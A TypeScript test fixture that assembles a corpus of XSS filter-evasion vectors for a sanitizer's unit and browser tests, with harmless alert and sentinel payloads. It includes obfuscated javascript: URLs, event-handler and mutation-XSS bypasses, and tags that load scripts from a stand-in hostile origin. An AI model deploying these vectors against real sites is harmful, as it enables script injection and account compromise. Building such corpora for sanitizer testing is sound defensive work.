/**
 * Script-injection vectors a page body may carry, after the OWASP XSS filter evasion cheat sheet, the PortSwigger
 * XSS cheat sheet and the published DOMPurify/sanitize-html mutation-XSS bypasses. The sanitizer's unit test and the
 * end-to-end test in Chromium (e2e/xss.test.ts) both run every one of them.
 *
 * Each vector is written once with `$P` where the script goes and expanded twice: with `alert(N)` (a dialog the
 * browser test listens for) and with `void(window.__xss=N)` (a sentinel it reads back; `void` so a `javascript:` URL
 * evaluates to nothing instead of replacing the document with "N"), N being the vector's own `id`: the browser test
 * opens many vectors on one page, and the number says which of them ran. Vectors that need the payload encoded get it
 * through the helpers below.
 */

export interface XssVector {
  /** Unique, for test names and page slugs (`[a-z0-9-]`). */
  readonly name: string;
  /** Unique, from 1: what the vector's script reports (the alert's text, the sentinel's value) if it runs. */
  readonly id: number;
  readonly html: string;
  /** Harmless text in the vector that the sanitizer must keep (it removes the attack, not the article). */
  readonly keep?: string;
}

export const PAYLOADS = {
  alert: (id: number) => `alert(${id})`,
  sentinel: (id: number) => `void(window.__xss=${id})`,
} as const;

/** A host no test serves: a request to it means the page tried to load something it must not. */
export const EVIL_ORIGIN = 'http://xss.invalid';

const decimal = (text: string) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');
const paddedDecimal = (text: string) => [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join('');
const hex = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** `[name, html with $P, text to keep]`; `$E` is the evil origin. */
type Template = readonly [string, string, string?];

const TEMPLATES: readonly Template[] = [
  // Plain script, in all its spellings.
  ['script', '<p>keep-script</p><script>$P</script>', 'keep-script'],
  ['script-src', '<SCRIPT SRC=$E/xss.js></SCRIPT>'],
  ['script-slash-attr', '<SCRIPT/XSS SRC="$E/xss.js"></SCRIPT>'],
  ['script-nested', '<scr<script>ipt>$P</scr</script>ipt>'],
  ['script-double-open', '<<SCRIPT>$P//<</SCRIPT>'],
  ['script-in-img-attr', '<IMG """><SCRIPT>$P</SCRIPT>">'],
  ['script-no-close', '<SCRIPT SRC=$E/xss.js?< B >'],
  ['script-type-module', '<script type="module">$P</script>'],

  // Event handlers.
  ['img-onerror', '<img src=x onerror="$P">'],
  ['img-onerror-unquoted-unclosed', '<img src=x onerror=$P//'],
  ['img-onerror-slash', '<IMG SRC=/ onerror="$P"></img>'],
  ['img-onmouseover', '<IMG SRC=# onmouseover="$P">'],
  ['img-allowed-src-onload', '<img src="/api/users/images/keep.png" alt="keep-alt" onload="$P" onerror="$P">'],
  ['img-srcset-onerror', '<img srcset="x" onerror="$P">'],
  ['img-entity-handler', '<img src=x onerror="' + '$ENC' + '">'],
  ['img-eval-src', '<img src=x:$P onerror=eval(src.slice(2)) alt=0>'],
  ['a-onclick', '<a href="https://example.com/" onclick="$P">keep-link</a>', 'keep-link'],
  ['a-onmouseover', '<p><a href="/about" onmouseover=$P>keep-hover</a></p>', 'keep-hover'],
  ['a-onfocus-autofocus', '<a href="#" onfocus="$P" autofocus tabindex="1">keep-focus</a>', 'keep-focus'],
  ['body-onload', '<BODY onload="$P">keep-body', 'keep-body'],
  ['body-onpageshow', '<body onpageshow="$P">'],
  ['svg-onload', '<svg onload="$P">'],
  ['svg-animate-onbegin', '<svg><animate onbegin="$P" attributeName="x" dur="1s"></animate></svg>'],
  ['details-ontoggle', '<details open ontoggle="$P"><summary>keep-summary</summary></details>', 'keep-summary'],
  ['input-autofocus', '<input autofocus onfocus="$P">'],
  ['video-source-onerror', '<video><source onerror="$P"></video>'],
  ['audio-onerror', '<audio src=x onerror="$P"></audio>'],
  ['marquee-onstart', '<marquee onstart="$P">keep-marquee</marquee>', 'keep-marquee'],
  ['isindex', '<isindex type=image src=1 onerror="$P">'],
  ['style-animation', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="$P">keep-anim</p>'],
  ['div-onpointerenter', '<div onpointerenter="$P" onmouseenter="$P">keep-div</div>', 'keep-div'],
  ['p-onclick-uppercase', '<P ONCLICK="$P">keep-upper</P>', 'keep-upper'],

  // javascript:, vbscript: and data: URLs with obfuscation.
  ['a-javascript', '<a href="javascript:$P">keep-js</a>', 'keep-js'],
  ['a-javascript-case', '<a href="JaVaScRiPt:$P">keep-case</a>', 'keep-case'],
  ['a-javascript-spaces', '<a href="  javascript:$P">keep-spaces</a>', 'keep-spaces'],
  ['a-javascript-tab', '<a href="jav\tascript:$P">keep-tab</a>', 'keep-tab'],
  ['a-javascript-tab-entity', '<a href="jav&#x09;ascript:$P">keep-tab-entity</a>', 'keep-tab-entity'],
  ['a-javascript-newline-entity', '<a href="jav&#x0A;ascript:$P">keep-nl</a>', 'keep-nl'],
  ['a-javascript-cr-entity', '<a href="jav&#x0D;ascript:$P">keep-cr</a>', 'keep-cr'],
  ['a-javascript-named-entities', '<a href="java&NewLine;script&colon;$P">keep-named</a>', 'keep-named'],
  ['a-javascript-leading-control', '<a href=" &#14;  javascript:$P">keep-control</a>', 'keep-control'],
  ['a-javascript-decimal', `<a href="${decimal('javascript:')}$P">keep-decimal</a>`, 'keep-decimal'],
  ['a-javascript-padded-decimal', `<a href="${paddedDecimal('javascript:')}$P">keep-padded</a>`, 'keep-padded'],
  ['a-javascript-hex', `<a href="${hex('javascript:')}$P">keep-hex</a>`, 'keep-hex'],
  ['a-javascript-comment-newline', '<a href="javascript://%0a$P">keep-comment</a>', 'keep-comment'],
  ['a-vbscript', '<a href="vbscript:msgbox(1)">keep-vb</a>', 'keep-vb'],
  ['a-data-html', '<a href="data:text/html;base64,$B64">keep-data</a>', 'keep-data'],
  ['img-javascript', '<IMG SRC="javascript:$P;">'],
  ['img-javascript-case-unquoted', '<IMG SRC=JaVaScRiPt:$P>'],
  ['img-javascript-backtick', '<IMG SRC=`javascript:$P`>'],
  ['img-javascript-tab', '<IMG SRC="jav\tascript:$P;">'],
  ['img-javascript-cr-entity', '<IMG SRC="jav&#x0D;ascript:$P;">'],
  ['img-srcset-javascript', '<img src="/api/users/images/keep.png" srcset="javascript:$P 1x" alt="keep-srcset">'],
  ['img-external', '<img src="$E/pixel.png" alt="x">'],
  ['img-protocol-relative', '<img src="//xss.invalid/api/users/images/a.png" alt="x">'],
  ['img-backslash', '<img src="/\\xss.invalid/api/users/images/a.png" alt="x">'],
  ['img-src-quote-break', '<img src="/api/users/images/a.png&quot; onerror=&quot;$P">'],
  ['table-background', '<table><tr><td background="javascript:$P">keep-cell</td></tr></table>', 'keep-cell'],
  ['math-xlink', '<math><mi xlink:href="javascript:$P">keep-math</mi></math>'],
  ['svg-xlink', '<svg><a xlink:href="javascript:$P"><text x="20" y="20">XSS</text></a></svg>'],
  ['svg-script', '<svg><script>$P</script></svg>'],
  ['svg-use-data', '<svg><use href="data:image/svg+xml;base64,$SVG64#x"></use></svg>'],

  // Embedding, forms, navigation.
  ['iframe-javascript', '<iframe src="javascript:$P"></iframe>'],
  ['iframe-srcdoc', '<iframe srcdoc="&lt;script&gt;parent.$P&lt;/script&gt;"></iframe>'],
  ['iframe-unclosed', '<iframe src="$E/frame"><img src=x onerror="$P">'],
  ['object-data', '<object data="javascript:$P"></object>'],
  ['object-scriptlet', '<object type="text/x-scriptlet" data="$E/x.sct"></object>'],
  ['embed-data', '<embed src="data:text/html;base64,$B64">'],
  ['embed-javascript', '<embed src="javascript:$P">'],
  ['form-action', '<form action="javascript:$P"><input type="submit" value="go"></form>'],
  ['button-formaction', '<form><button formaction="javascript:$P">keep-button</button></form>'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url=javascript:$P">'],
  ['meta-refresh-data', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,$B64">'],
  ['base-href', '<base href="javascript:$P//"><a href="/about">keep-base</a>', 'keep-base'],
  ['base-external', '<base href="$E/"><img src="api/users/images/a.png" alt="x">'],
  ['link-stylesheet', '<link rel="stylesheet" href="$E/x.css">'],
  ['link-import', '<link rel="import" href="$E/x.html">'],

  // Style.
  ['style-import', "<style>@import '$E/x.css';</style>"],
  ['style-attr-url', '<div style="background-image: url(javascript:$P)">keep-bg</div>', 'keep-bg'],
  ['style-attr-expression', '<div style="width: expression($P);">keep-expr</div>', 'keep-expr'],
  ['style-attr-expression-comment', '<p style="x:expr/**/ession($P)">keep-expr2</p>', 'keep-expr2'],
  ['style-attr-external', '<p style="background:url($E/x.png)">keep-bgurl</p>', 'keep-bgurl'],
  ['style-attr-behavior', '<p style="behavior: url(xss.htc); -moz-binding: url($E/x.xml#x)">keep-htc</p>', 'keep-htc'],

  // Parser differentials and mutation XSS.
  ['noscript-title', '<noscript><p title="</noscript><img src=x onerror=$P>">'],
  ['noembed-title', '<noembed><img title="</noembed><img src=x onerror=$P>"></noembed>'],
  ['noframes-title', '<noframes><p title="</noframes><img src=x onerror=$P>"></noframes>'],
  ['xmp', '<xmp><img src=x onerror=$P></xmp>'],
  ['textarea', '<textarea><img src=x onerror=$P></textarea>'],
  ['title', '<title><img src=x onerror=$P></title>'],
  ['template', '<template><img src=x onerror=$P></template>'],
  ['plaintext', '<plaintext><img src=x onerror=$P>'],
  ['comment-break', '<!--<img src="--><img src=x onerror=$P//">'],
  ['comment-dashes', '<p>keep-comment-text</p><!-- --!><img src=x onerror=$P> -->', 'keep-comment-text'],
  ['cdata', '<![CDATA[><img src=x onerror=$P>]]>'],
  ['processing-instruction', '<?xml-stylesheet ?><img src=x onerror=$P>'],
  ['svg-style-mxss', '<svg></p><style><a id="</style><img src=1 onerror=$P>">'],
  ['math-mglyph-style', '<math><mtext><table><mglyph><style><img src=x onerror=$P>'],
  ['form-math-mxss', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=$P>'],
  ['select-template-style', '<select><template><style><img src=x onerror=$P></style></template></select>'],
  ['math-style-title', '<math><style><img src=x onerror=$P></style></math>'],
  ['a-title-break', '<a href="/about" title="</a><img src=x onerror=$P>">keep-title</a>', 'keep-title'],
  ['img-alt-script', '<img src="/api/users/images/keep.png" alt="<script>$P</script>">'],
  ['attr-backtick-break', '<p>keep-tick</p><img src=`x` onerror=`$P`>', 'keep-tick'],
  ['null-byte-tag', '<scr\u0000ipt>$P</scr\u0000ipt>'],
  ['null-byte-text', '<p>keep\u0000-nul</p><img src=x o\u0000nerror="$P">', 'keep-nul'],
  ['null-byte-href', '<a href="java\u0000script:$P">keep-null</a>', 'keep-null'],

  // DOM clobbering: ids and names that shadow globals the page or the test reads.
  ['clobber-id', '<p id="__xss">keep-clobber</p><a id="__xss" name="__xss" href="/x">a</a>', 'keep-clobber'],
  ['clobber-app-state', '<div id="app-state">keep-state</div>', 'keep-state'],
  ['clobber-form-name', '<form name="__xss"><img name="__xss"></form>'],
];

function expand(html: string, payload: string): string {
  return html
    .replaceAll('$ENC', decimal(payload))
    .replaceAll('$B64', base64(`<script>${payload}</script>`))
    .replaceAll('$SVG64', base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg" onload="${payload}"/>`))
    .replaceAll('$E', EVIL_ORIGIN)
    .replaceAll('$P', payload);
}

/** Every template with both payloads: `img-onerror-alert`, `img-onerror-sentinel`, ... */
export const XSS_CORPUS: readonly XssVector[] = TEMPLATES.flatMap(([name, html, keep], index) =>
  Object.entries(PAYLOADS).map(([kind, payload], second) => {
    const id = index * 2 + second + 1;
    return { name: `${name}-${kind}`, id, html: expand(html, payload(id)), ...(keep ? { keep } : {}) };
  }),
);
